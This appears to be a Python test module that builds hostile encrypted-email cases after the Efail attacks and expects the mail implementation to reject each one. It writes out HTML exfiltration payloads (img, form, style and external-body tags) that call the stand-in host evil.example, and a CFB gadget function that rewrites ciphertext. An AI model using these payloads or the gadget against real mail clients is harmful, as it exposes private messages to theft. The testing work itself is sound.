"""Hostile: altered or surrounded ciphertext (Efail, USENIX Security 2018)."""

import base64

from messages.case import Case, closed, want
from messages.frames import FROM_EVE, PLAN, attached, encrypted, html, letter, mixed, multi, part, text
from messages.holders import ALICE, EVE, to_bob
from messages.sealed import (
    C_PROTECTED,
    ENTITY,
    C,
    armor,
    binary,
    inside,
    raw_sealed,
    sealed_by,
    session_key,
    signed_by,
)
from openpgp import raw
from openpgp import raw_message as m


def case(slug, row, entity, wanted, what, why, *, given=None, **fields_):
    return Case(slug, "hostile", letter(entity, **fields_), wanted, what, why, (row,), given or {})


def cases():
    yield from _sandwiches()
    yield from _altered()
    yield from _headers()
    yield from _others()


def _sandwiches():
    why = "Something stands before the ciphertext: an errant layer, closed (RFC 9787 §4.5); Efail, direct exfiltration."
    forms = {
        "ef-sandwich": (b'<img src="http://evil.example/', b'">'),
        "ef-sandwich-form": (b"<form action=http://evil.example><textarea name=x>", b"</textarea></form>"),
        "ef-sandwich-style": (b'<style>@import "http://evil.example/', b'"</style>'),
    }
    for slug, (before, behind) in forms.items():
        opening = text(before, subtype=b"html")
        entity = mixed(opening, C, text(behind, subtype=b"html"))
        yield case(
            slug,
            "ef-sandwich",
            entity,
            closed(),
            f"HTML {before[:12].decode()}…, C, and what closes it.",
            why,
            sender=FROM_EVE,
        )
    for kind in (b"alternative", b"related", b"parallel"):
        entity = multi(kind, text(b'<img src="http://evil.example/', subtype=b"html"), C)
        yield case(
            f"ef-sandwich-{kind.decode()}", "ef-sandwich", entity, closed(),
            f"The same below multipart/{kind.decode()}.", why, sender=FROM_EVE,
        )  # fmt: skip
    for depth in (2, 50):
        entity = C
        for level in range(depth):
            entity = mixed(html(b"<img src='http://evil.example/"), entity, boundary=f"level{level}".encode())
        yield case(
            f"ef-sandwich-depth-{depth}", "ef-sandwich", entity, closed(),
            f"The same {depth} multiparts deep.", why, sender=FROM_EVE,
        )  # fmt: skip
    entity = signed_by(mixed(html(b"<img src='http://evil.example/"), C), EVE.key)
    yield case(
        "ef-signed-sandwich",
        "ef-signed-sandwich",
        entity,
        closed(signature="good", from_="match", some_finding=True),
        "The whole sandwich signed by Eve, and from Eve.",
        "Her signature is good for her own octets; C is an errant layer and stays closed, which is said.",
        sender=FROM_EVE,
    )


def _closed(slug, row, data, what, why, **more):
    wanted = closed(untouched=True, some_finding=True, **more)
    return case(slug, row, encrypted(armor("MESSAGE", data, checksum=False)), wanted, what, why)


def _altered():
    packets = inside(ENTITY, ALICE)
    session = session_key(packets)
    whole = binary(ENTITY, ALICE)
    sealed = m.seipd1(session, packets)
    yield _closed(
        "ef-cfb",
        "ef-cfb",
        to_bob(session) + _gadget(sealed, packets),
        "The first plaintext block, which is known, was turned into <img by a CFB gadget; the digest is wrong.",
        "No octet of plaintext before the digest was checked (RFC 9580 §5.13.1); CVE-2017-17688.",
        findings=["not-decrypted"],
    )
    why = "Without integrity protection nothing is opened (design 8; RFC 9580 §5.13.1)."
    yield _closed("ef-nomdc", "ef-nomdc", raw_sealed(packets, mdc=False), "SEIPDv1 without its digest packet.", why)
    plain = packets + b"\xd3\x14"
    half = to_bob(session) + m.seipd1(session, plain + bytes(9), mdc=False)
    yield _closed("ef-nomdc-cut-inside", "ef-nomdc", half, "Cut inside the digest.", why)
    behind = to_bob(session) + m.seipd1(session, packets, digest=bytes(20))
    yield _closed("ef-nomdc-wrong", "ef-nomdc", behind, "A digest of zeros.", why)
    yield _closed("ef-nomdc-cut-behind", "ef-nomdc", whole[:-22], "The last 22 octets are missing.", why)
    yield _closed(
        "ef-sed",
        "ef-sed",
        to_bob(session) + m.sed(session, packets),
        "Encrypted data of type 9, made for Bob, signed inside by Alice.",
        "Type 9 has no integrity protection (§5.7): not opened, so the signature inside is not judged.",
    )
    why = "No packet is read as another than it is (§10.3.2.1): the same failure as any other."
    body = sealed[sealed.index(b"\x01", 2) :]
    nine = to_bob(session) + raw.packet(9, body[1:])
    yield _closed("ef-downgrade-18-to-9", "ef-downgrade", nine, "Type 18 called 9.", why)
    ocb = m.gnupg_ocb(session, packets)
    eighteen = to_bob(session) + raw.packet(18, b"\1" + ocb[20:])
    yield _closed("ef-downgrade-20-to-18", "ef-downgrade", eighteen, "GnuPG's type 20 called 18.", why)
    two = m.seipd2(session, packets)
    start = two.index(b"\2\x09\2\0")
    first = to_bob(session) + raw.packet(18, b"\1" + two[start + 36 :])
    yield _closed("ef-downgrade-v2-to-v1", "ef-downgrade", first, "SEIPDv2 called version 1.", why)
    mixed_up = to_bob(session, version=6) + sealed
    yield _closed(
        "ef-downgrade-pkesk-v6", "ef-downgrade", mixed_up, "A session key packet of version 6 before SEIPDv1.", why
    )


def _gadget(sealed, packets):
    """XOR the known first block of the plaintext into another one."""
    at = len(sealed) - 22 - len(packets)
    known, wanted = packets[:16], b"<img src=http://"
    change = bytes(a ^ b for a, b in zip(known, wanted, strict=True))
    return sealed[:at] + bytes(a ^ b for a, b in zip(sealed[at : at + 16], change, strict=True)) + sealed[at + 16 :]


def _headers():
    why = "Inner fields and the inner type alone rule what is opened (RFC 9788 §4)."
    full = want("full", "good", "match", phrase=None, shows=["The gate opens"])
    hurt = b'Content-Type: multipart/encrypted; charset="utf-7"; protocol="application/pgp-encrypted"'
    charset = C_PROTECTED.replace(
        b"Content-Type: multipart/encrypted", hurt.replace(b'; protocol="application/pgp-encrypted"', b""), 1
    )
    yield case(
        "ef-header-charset", "ef-header", charset, {**full, "head_hides": ["utf-7"]},
        "A charset on the outer Content-Type.", why, subject=b"[...]",
    )  # fmt: skip
    yield case(
        "ef-header-subject",
        "ef-header",
        C_PROTECTED,
        {**full, "subject": "the plan", "head_hides": ["Pay Eve", "Content-Base"]},
        "Subject, List-Post and Content-Base outside are Eve's.",
        why,
        subject=b"Pay Eve now",
        more=b"Content-Base: http://evil.example/\r\nList-Post: <mailto:eve@evil.example>\r\n",
    )


def _others():
    cms = base64.encodebytes(b"0\x80\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x03\xa0\x80" * 20).replace(b"\n", b"\r\n")
    why = "S/MIME is none of our business: octet for octet, no layer walked, no claim; CVE-2017-17689."
    sealed = attached(b"application/pkcs7-mime; smime-type=enveloped-data", b"smime.p7m", cms, encoding=b"base64")
    yield case("ef-smime", "ef-smime", sealed, want(untouched=True), "S/MIME enveloped data as the root.", why)
    signed = attached(b"application/pkcs7-signature", b"smime.p7s", cms, encoding=b"base64")
    params = b'; protocol="application/pkcs7-signature"; micalg=sha-256'
    for slug, inner in (("ef-smime-signed", text(PLAN)), ("ef-smime-signed-round-c", C)):
        yield case(
            slug, "ef-smime", multi(b"signed", inner, signed, params=params), want(untouched=True, no_findings=None),
            "Signed with S/MIME" + (", round C." if inner is C else "."), why,
        )  # fmt: skip
    forms = {
        "ef-fetch-external-body": part(
            b'message/external-body; access-type=URL; URL="http://evil.example/x"', b"Content-Type: text/plain\r\n\r\n"
        ),
        "ef-fetch-partial": part(b'message/partial; id="x"; number=1; total=2', b"Subject: half\r\n\r\nhalf\r\n"),
        "ef-fetch-image": html(b'<img src="http://evil.example/seen">'),
        "ef-fetch-form": html(b'<form action="http://evil.example/"><input name=x></form>'),
    }
    for slug, entity in forms.items():
        yield case(
            slug, "ef-fetch", sealed_by(entity, EVE.key),
            want("full", "good", "match", shows=["evil.example" if b"http" in entity else "half"]),
            "Well sealed and signed by Eve, from Eve: a payload that some reader would fetch something for.",
            "It is her letter, shown as it is; nothing is fetched here (Efail, back channels).",
            sender=FROM_EVE,
        )  # fmt: skip
